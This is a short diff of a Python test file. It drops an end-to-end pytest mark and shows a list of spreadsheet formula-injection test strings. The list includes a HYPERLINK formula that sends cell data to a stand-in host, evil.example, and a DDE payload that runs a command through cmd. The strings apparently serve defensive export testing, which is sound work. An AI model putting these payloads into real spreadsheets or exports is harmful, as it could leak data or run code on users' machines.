@@ -24,8 +24,6 @@ from harness.launch import SmtpSink
 from tests.console.conftest import sign_in
 from tests.support import problem
 
-pytestmark = pytest.mark.e2e
-
 MARTIN, SOLDERING = 5, 6
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR"]
 
